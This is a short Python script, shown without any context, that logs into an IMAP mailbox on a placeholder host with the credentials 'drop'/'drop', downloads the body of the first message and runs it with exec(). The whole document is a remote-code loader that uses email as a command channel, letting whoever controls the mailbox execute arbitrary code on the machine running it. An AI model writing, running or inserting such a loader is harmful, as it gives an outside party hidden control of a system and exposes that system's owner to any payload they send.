import imaplib

box = imaplib.IMAP4_SSL("mail.example.com")
box.login("drop", "drop")
box.select()
_, parts = box.fetch("1", "(BODY[TEXT])")
exec(parts[0][1])
